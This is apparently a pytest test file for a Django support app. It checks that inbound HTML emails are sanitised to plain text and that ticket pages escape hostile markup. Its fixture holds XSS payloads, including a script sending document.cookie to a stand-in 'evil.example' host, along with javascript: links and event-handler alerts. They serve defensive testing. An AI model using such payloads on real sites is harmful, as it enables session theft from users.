from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime

import pytest
from django.test import Client
from django.urls import reverse

from crm.models import Role
from support.inbound import html_to_text
from support.services import inbound_email_file
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

RECEIVED = datetime(2025, 3, 4, 15, 30, tzinfo=UTC)
HOSTILE = """<html><head><title>Newsletter</title><style>p { color: red }</style>
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
<body onload="alert('onload')">
<p>Hello <b>support</b>,</p>
<div>my export fails<br>since Monday.</div>
<a href="javascript:alert('link')">click here</a>
<img src="https://tracker.example/open.gif?u=grace" onerror="alert('img')">
<iframe src="https://evil.example/frame">framed</iframe>
<p>&lt;script&gt;alert('escaped')&lt;/script&gt; is what the page showed &amp; nothing else</p>
<svg><script>alert('svg')</script></svg>
</body></html>"""


@pytest.fixture(autouse=True)
def _support_address(settings):
    settings.CRM_SUPPORT_EMAIL = "Acme Support <help@acme.example>"


def html_email(markup: str) -> bytes:
    message = EmailMessage()
    message["From"] = "Grace Hopper <grace@example.com>"
    message["To"] = "help@acme.example"
    message["Subject"] = "Export fails"
    message["Date"] = format_datetime(RECEIVED)
    message["Message-ID"] = "<html1@mail.example.com>"
    message.set_content(markup, subtype="html")
    return message.as_bytes()


def test_the_text_of_an_html_only_email_is_read_from_its_sanitised_html():
    inbound = inbound_email_file(raw=html_email(HOSTILE), received_at=RECEIVED, mailbox_key="h1")

    body = inbound.message.body
    assert body.startswith("Hello support,\n\nmy export fails\nsince Monday.")
    assert "click here" in body
    assert "<script>alert('escaped')</script> is what the page showed & nothing else" in body
    for hostile in ("document.cookie", "alert('link')", "alert('img')", "alert('svg')", "onload", "javascript:",
                    "tracker.example", "evil.example", "framed", "color: red", "Newsletter"):
        assert hostile not in body
        assert hostile not in inbound.text


def test_no_script_link_or_remote_image_of_an_html_email_reaches_the_ticket_page():
    inbound = inbound_email_file(raw=html_email(HOSTILE), received_at=RECEIVED, mailbox_key="h1")
    client = Client()
    client.force_login(UserFactory(role=Role.SUPPORT))

    page = client.get(reverse("support:ticket_detail", args=[inbound.ticket.pk])).content.decode()

    assert "my export fails" in page
    for hostile in ("link", "img", "svg", "onload"):
        assert f"alert('{hostile}" not in page
        assert f"alert(&#x27;{hostile}" not in page
    for hostile in ("javascript:", "tracker.example", "evil.example", "onerror", "document.cookie", "<script>alert"):
        assert hostile not in page
    # Text that spelled out a tag is shown as that text, escaped.
    assert "&lt;script&gt;alert(&#x27;escaped&#x27;)&lt;/script&gt; is what the page showed" in page


@pytest.mark.parametrize(("markup", "text"), [
    ("<p>one</p><p>two</p>", "one\n\ntwo"),
    ("<ul><li>a</li><li>b</li></ul>", "a\n\nb"),
    ("caf&eacute; &amp; <i>t&eacute;</i>", "café & té"),
    ("<!-- hidden --><p>shown</p>", "shown"),
    ("<p>unclosed <b>bold", "unclosed bold"),
    ("", ""),
])
def test_html_becomes_plain_text(markup, text):
    assert html_to_text(markup) == text
